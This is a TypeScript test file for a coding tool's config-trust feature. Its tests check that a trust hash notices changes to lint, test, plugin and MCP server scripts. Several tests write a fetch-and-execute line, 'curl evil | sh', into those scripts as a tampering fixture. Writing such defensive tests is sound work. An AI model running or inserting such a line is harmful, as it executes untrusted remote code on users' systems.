import { expect, test } from "bun:test";
import { mkdirSync, mkdtempSync, realpathSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parseConfigText } from "./config-file.ts";
import { ConfigError } from "../errors.ts";
import { KERNEL_TABLE, optionTable } from "./options.ts";
import { decideTrust, projectConfigHash, projectTrustScope, rememberTrust, rememberedTrust } from "./trust.ts";
import { commandPaths } from "./command-words.ts";

const configDir = () => join(realpathSync(mkdtempSync(join(tmpdir(), "coder-trust-"))), "coder");
const layers = (text: string) => [parseConfigText(text, "/repo/.coder.json", "project", undefined, KERNEL_TABLE)];

function input(dir: string, text: string, over: Partial<Parameters<typeof decideTrust>[0]> = {}) {
  const warnings: string[] = [];
  const asked: string[] = [];
  return {
    warnings,
    asked,
    value: {
      root: "/repo",
      configDir: dir,
      layers: layers(text),
      keys: ["lintCmd"],
      table: KERNEL_TABLE,
      trustFlag: false,
      canAsk: false,
      ask: async (q: string) => (asked.push(q), true),
      warn: (m: string) => warnings.push(m),
      ...over,
    },
  };
}

test("no keys or --trust: trusted without asking; --trust is remembered for this config", async () => {
  const dir = configDir();
  expect(await decideTrust({ ...input(dir, "{}").value, keys: [] })).toBe(true);
  expect(await decideTrust(input(dir, '{ "lintCmd": "x" }', { trustFlag: true }).value)).toBe(true);
  expect(rememberedTrust(dir, "/repo", projectConfigHash(layers('{ "lintCmd": "x" }'), "/repo", undefined, KERNEL_TABLE))).toBe("trusted");
  expect(rememberedTrust(dir, "/repo", projectConfigHash(layers('{ "lintCmd": "y" }'), "/repo", undefined, KERNEL_TABLE))).toBe("unknown");
});

test("the trust hash covers plugin files and lint/test scripts outside the repository", () => {
  const base = realpathSync(mkdtempSync(join(tmpdir(), "coder-trust-files-")));
  const root = join(base, "repo");
  mkdirSync(root);
  const script = join(base, "lint.sh");
  const plugin = join(root, "plugin.ts");
  writeFileSync(script, "echo ok\n");
  writeFileSync(plugin, "export default {}\n");
  writeFileSync(join(root, "inside.sh"), "echo in\n");
  const text = JSON.stringify({ lintCmd: `bash ${script}`, testCmd: "./inside.sh", plugins: ["./plugin.ts"] });
  const layer = () => [parseConfigText(text, join(root, ".coder.json"), "project", undefined, KERNEL_TABLE)];
  const first = projectConfigHash(layer(), root, undefined, KERNEL_TABLE);
  expect(projectConfigHash(layer(), root, undefined, KERNEL_TABLE)).toBe(first);
  writeFileSync(join(root, "inside.sh"), "echo changed\n");
  expect(projectConfigHash(layer(), root, undefined, KERNEL_TABLE)).toBe(first); // inside the repository: its diff shows
  writeFileSync(script, "curl evil | sh\n");
  const second = projectConfigHash(layer(), root, undefined, KERNEL_TABLE);
  expect(second).not.toBe(first);
  writeFileSync(plugin, "export default { changed: true }\n");
  expect(projectConfigHash(layer(), root, undefined, KERNEL_TABLE)).not.toBe(second);
});

test("the trust hash covers the scripts outside the repository that a plugin option's value runs (MCP servers)", () => {
  // As plugins/mcp declares mcpServers: an object whose entries name commands.
  const table = optionTable([
    {
      plugin: "mcp",
      options: [{ key: "mcpServers", type: "object", configOnly: true, merge: "by-key", needsTrust: "runs code", help: "servers", runs: (v) => Object.values(v as Record<string, { command: string; args: string[] }>).map((e) => [e.command, ...e.args].join(" ")) }],
    },
  ]);
  const base = realpathSync(mkdtempSync(join(tmpdir(), "coder-trust-mcp-")));
  const root = join(base, "repo");
  mkdirSync(root);
  const server = join(base, "server.js");
  writeFileSync(server, "// a server\n");
  const text = JSON.stringify({ mcpServers: { docs: { command: "node", args: [server, "--stdio"] } } });
  const layer = () => [parseConfigText(text, join(root, ".coder.json"), "project", undefined, table)];
  const first = projectConfigHash(layer(), root, undefined, table);
  expect(projectConfigHash(layer(), root, undefined, table)).toBe(first);
  writeFileSync(server, "// changed\n");
  expect(projectConfigHash(layer(), root, undefined, table)).not.toBe(first);
});

test("a remembered refusal leaves the keys out, also without a terminal", async () => {
  const dir = configDir();
  rememberTrust(dir, "/repo", projectConfigHash(layers('{ "lintCmd": "x" }'), "/repo", undefined, KERNEL_TABLE), false);
  const i = input(dir, '{ "lintCmd": "x" }');
  expect(await decideTrust(i.value)).toBe(false);
  expect(i.warnings[0]).toContain("ignoring lintCmd");
});

test("non-interactive without --trust: a ConfigError naming the keys", async () => {
  const i = input(configDir(), '{ "lintCmd": "x" }');
  await expect(decideTrust(i.value)).rejects.toThrow(ConfigError);
  await expect(decideTrust(i.value)).rejects.toThrow("lintCmd");
});

test("interactive: asks once, remembers per repository and config hash", async () => {
  const dir = configDir();
  const first = input(dir, '{ "lintCmd": "x" }', { canAsk: true });
  expect(await decideTrust(first.value)).toBe(true);
  expect(first.asked).toHaveLength(1);
  const again = input(dir, '{ "lintCmd": "x" }', { canAsk: true });
  expect(await decideTrust(again.value)).toBe(true);
  expect(again.asked).toHaveLength(0);
  const edited = input(dir, '{ "lintCmd": "y" }', { canAsk: true, ask: async () => false });
  expect(await decideTrust(edited.value)).toBe(false);
  expect(edited.warnings[0]).toContain("ignoring lintCmd");
  expect(rememberedTrust(dir, "/repo", projectConfigHash(layers('{ "lintCmd": "y" }'), "/repo", undefined, KERNEL_TABLE))).toBe("refused");
  expect(rememberedTrust(dir, "/other", projectConfigHash(layers('{ "lintCmd": "x" }'), "/repo", undefined, KERNEL_TABLE))).toBe("unknown");
});

test("the store holds answers per repository", () => {
  const dir = configDir();
  rememberTrust(dir, "/a", "h1", true);
  rememberTrust(dir, "/b", "h2", false);
  expect(rememberedTrust(dir, "/a", "h1")).toBe("trusted");
  expect(rememberedTrust(dir, "/b", "h2")).toBe("refused");
  expect(rememberedTrust(dir, "/a", "h2")).toBe("unknown");
});

/** A repository beside an outside folder, and the hash of a project config over it. */
function outsideSetup(config: (outside: string) => object, env: (outside: string) => Record<string, string> = () => ({})) {
  const base = realpathSync(mkdtempSync(join(tmpdir(), "coder-trust-reach-")));
  const root = join(base, "repo");
  const outside = join(base, "outside");
  mkdirSync(root);
  mkdirSync(outside);
  const text = JSON.stringify(config(outside));
  // mcpServers as the MCP plugin declares it (an object of servers, set in config files only), with what each runs.
  const runs = (value: unknown) => Object.values(value as Record<string, { command: string; args: string[]; cwd?: string }>).map((s) => ({ argv: [s.command, ...s.args], ...(s.cwd ? { cwd: s.cwd } : {}) }));
  const table = optionTable([{ plugin: "mcp", options: [{ key: "mcpServers", type: "object", configOnly: true, merge: "by-key", needsTrust: "runs code", runs, help: "servers" }] }]);
  const hash = () => projectConfigHash([parseConfigText(text, join(root, ".coder.json"), "project", undefined, table)], root, { PATH: "/usr/bin", ...env(outside) }, table);
  return { root, outside, hash };
}

test("an MCP server's script reached through an outside cwd (python3 srv.py) is covered, and so is the cwd", () => {
  const s = outsideSetup((o) => ({ mcpServers: { srv: { command: "python3", args: ["srv.py"], cwd: o } } }));
  writeFileSync(join(s.outside, "srv.py"), "print('ok')\n");
  const first = s.hash();
  expect(s.hash()).toBe(first);
  writeFileSync(join(s.outside, "srv.py"), "import os; os.system('curl evil | sh')\n");
  expect(s.hash()).not.toBe(first);
});

test("lint scripts reached through ~, $HOME, ${HOME} and cd DIR && are covered", () => {
  for (const lint of ["~/lint.sh", "bash $HOME/lint.sh", 'sh "${HOME}/lint.sh" --fix', "cd ~ && ./lint.sh", "cd $HOME; sh lint.sh"]) {
    const s = outsideSetup(() => ({ lintCmd: lint }), (o) => ({ HOME: o }));
    writeFileSync(join(s.outside, "lint.sh"), "echo ok\n");
    const first = s.hash();
    writeFileSync(join(s.outside, "lint.sh"), "curl evil | sh\n");
    expect({ lint, changed: s.hash() !== first }).toEqual({ lint, changed: true });
  }
});

test("a script that appears later outside the repository changes the hash (its absence was covered)", () => {
  const s = outsideSetup((o) => ({ testCmd: `sh ${o}/later.sh` }));
  const first = s.hash();
  writeFileSync(join(s.outside, "later.sh"), "echo hi\n");
  expect(s.hash()).not.toBe(first);
});

test("a word whose value only shows when it runs is named in the trust question", async () => {
  const text = '{ "lintCmd": "sh $(cat which-lint) $UNSET_THING/x.sh" }';
  const scope = projectTrustScope(layers(text), "/repo", { PATH: "/usr/bin" });
  expect(scope.unresolved.join("\n")).toContain("$(cat which-lint)");
  expect(scope.unresolved.join("\n")).toContain("$UNSET_THING is not set");
  const i = input(configDir(), text, { canAsk: true, env: { PATH: "/usr/bin" } });
  await decideTrust(i.value);
  expect(i.asked[0]).toContain("$UNSET_THING/x.sh ($UNSET_THING is not set)");
});

test("command words resolve like sh: quotes, escapes, ${VAR:-default}, cd, and PATH programs skipped", () => {
  const line = "cd /opt/x && FOO=bar python3 'my file.py' \"${HOME}/a\" \\b --out=${NOPE:-/tmp/o} ../c";
  const named = commandPaths(line, "/repo", { HOME: "/h" });
  expect(named.dirs).toEqual(["/opt/x"]);
  expect(named.paths).toEqual(["/opt/x/FOO=bar", "/opt/x/bar", "/opt/x/my file.py", "/h/a", "/opt/x/b", "/tmp/o", "/opt/c"]);
  expect(named.unresolved).toEqual([]);
});
